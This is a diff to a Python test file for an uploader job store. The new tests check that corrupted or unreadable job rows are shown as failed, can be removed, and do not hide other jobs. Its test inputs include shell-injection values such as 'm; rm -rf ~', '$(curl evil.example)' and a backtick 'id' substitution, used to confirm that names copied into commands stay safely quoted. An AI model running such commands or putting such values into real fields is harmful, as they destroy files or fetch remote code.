@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import json
+import shlex
 from collections.abc import Callable
 from typing import Any
 
@@ -9,8 +11,11 @@ import pytest
 from sqlalchemy import Engine, update
 
 from tests.store.conftest import BASE_URL, NOW
-from uploader.core.errors import StoreError
+from uploader.core.documents import job_json
+from uploader.core.errors import StoreError, UnreadableRow, VerbRefused
 from uploader.core.job import Stage, Status
+from uploader.core.lifecycle import Verb
+from uploader.core.retry import Backoff, Fail, decide
 from uploader.core.seal import Seal
 from uploader.store.claims import Claims
 from uploader.store.held import Held
@@ -28,10 +33,31 @@ def status_of(engine: Engine, job_id: int) -> tuple[str, str | None]:
         return row.status, row.reason_code
 
 
-@pytest.mark.parametrize(
-    "nonsense",
-    [{"create_body": []}, {"options": 5}, {"warnings": {}}, {"kind": "novel"}, {"preflight": "x"}],
-)
+FINDING = {"check": "c", "severity": "warning", "file": "", "message": "m", "hint": "h"}
+NONSENSE: list[dict[str, Any]] = [
+    {"create_body": []},
+    {"create_body": {"model": 5}},
+    {"options": 5},
+    {"warnings": {}},
+    {"warnings": [5]},
+    {"kind": "novel"},
+    {"preflight": "x"},
+    {"preflight": [5]},
+    {"preflight": [{"check": "c"}]},
+    {"preflight": [FINDING | {"hint": 5}]},
+    {"rate_bps": float("inf")},
+    # Names go into commands that people copy.
+    {"model_id": "m; rm -rf ~"},
+    {"model_id": "$(curl evil.example)"},
+    {"account": "acme`id`"},
+    {"account": ""},
+    {"path": "m"},
+    {"path": "/m/" + "x" * 300},
+    {"snapshot": "../m"},
+]
+
+
+@pytest.mark.parametrize("nonsense", NONSENSE, ids=repr)
 def test_a_job_that_cannot_be_read_does_not_keep_the_others_waiting(
     engine: Engine,
     claims: Claims,
@@ -49,6 +75,82 @@ def test_a_job_that_cannot_be_read_does_not_keep_the_others_waiting(
         told = connection.execute(events.select().where(events.c.job_id == bad)).all()
     assert [event.kind for event in told] == ["enqueued", "failed"]
     assert claims.claim("w", BASE_URL, tuple(Stage), 60) is None
+
+
+@pytest.mark.parametrize("nonsense", NONSENSE[1::4], ids=repr)
+def test_a_job_that_cannot_be_read_hides_no_other_and_is_shown_as_failed(
+    jobs: Jobs, enqueue: Callable[..., int], put: Callable[..., None], nonsense: dict[str, Any]
+) -> None:
+    ids = [enqueue(name) for name in ("a", "b", "c")]
+    put(ids[1], **nonsense)
+    for found in (jobs.jobs(), jobs.page(0, 10), jobs.these(ids)):
+        assert [job.id for job in found] == ids
+        assert [job.model_id for job in (found[0], found[2])] == ["a", "c"]
+        odd = found[1]
+        assert odd.reason
+        assert (odd.status, odd.reason.code) == ("failed", "unreadable_row")
+        assert f"job {odd.id} " in odd.reason.message
+        assert f"`uploader remove {odd.id}`" in odd.reason.hint
+        assert shlex.quote(odd.model) == odd.model
+        assert json.dumps(job_json(odd, NOW))
+    assert jobs.of_model("b") == []
+    with pytest.raises(UnreadableRow, match=f"job {ids[1]} "):
+        jobs.job(ids[1])
+
+
+def test_a_job_that_has_ended_and_cannot_be_read_has_still_ended(
+    jobs: Jobs, enqueue: Callable[..., int], put: Callable[..., None]
+) -> None:
+    job_id = enqueue("a")
+    put(job_id, kind="novel", status=Status.DONE)
+    (shown,) = jobs.jobs(ended=10)
+    assert (shown.status, shown.model_id, shown.created_at) == ("done", "a", NOW)
+    assert jobs.jobs(ended=0) == []
+
+
+@pytest.mark.parametrize("damage", ["created_at = 'now'", "path = CAST(x'ff' AS TEXT)"])
+def test_no_value_of_a_file_hides_another_job(
+    sqlite_engine: Engine, new: Callable[..., Any], damage: str
+) -> None:
+    table = Jobs(sqlite_engine)
+    ids = [table.enqueue(new(name), NOW)[0] for name in ("a", "b")]
+    with sqlite_engine.begin() as connection:
+        connection.exec_driver_sql(f"UPDATE jobs SET {damage} WHERE id = {ids[0]}")
+    odd, good = table.jobs()
+    assert (odd.id, odd.reason and odd.reason.code) == (ids[0], "unreadable_row")
+    assert (good.id, good.reason) == (ids[1], None)
+
+
+def test_a_job_that_cannot_be_read_can_be_removed_and_nothing_else(
+    jobs: Jobs, claims: Claims, enqueue: Callable[..., int], put: Callable[..., None]
+) -> None:
+    job_id = enqueue("a")
+    held = claims.claim("w", BASE_URL, tuple(Stage), 60)
+    assert held
+    put(job_id, kind="novel")
+    for verb in (Verb.PAUSE, Verb.CANCEL, Verb.RETRY):
+        with pytest.raises(UnreadableRow):
+            jobs.apply(job_id, verb, NOW)
+    with pytest.raises(VerbRefused, match="a worker still has job"):
+        jobs.remove(job_id, NOW)
+    claims.release([held.lease])
+    jobs.remove(job_id, NOW)
+    assert jobs.jobs() == []
+
+
+def test_files_that_cannot_be_read_fail_their_job_and_are_not_shown(
+    engine: Engine, jobs: Jobs, enqueue: Callable[..., int]
+) -> None:
+    bad, good = enqueue("a"), enqueue("b")
+    with engine.begin() as connection:
+        odd = update(files).where(files.c.job_id == bad)
+        connection.execute(odd.values(path=files.c.path.concat("/x")))
+    with pytest.raises(UnreadableRow) as caught:
+        jobs.files(bad)
+    assert f"job {bad} " in caught.value.message
+    assert isinstance(decide(caught.value, 1, NOW, 0.5, Backoff(1.0, 60.0)), Fail)
+    assert jobs.files_to_show(bad) == []
+    assert jobs.files_to_show(good) == jobs.files(good) != []
 
 
 def test_a_cancelled_job_that_cannot_be_read_is_left_alone(
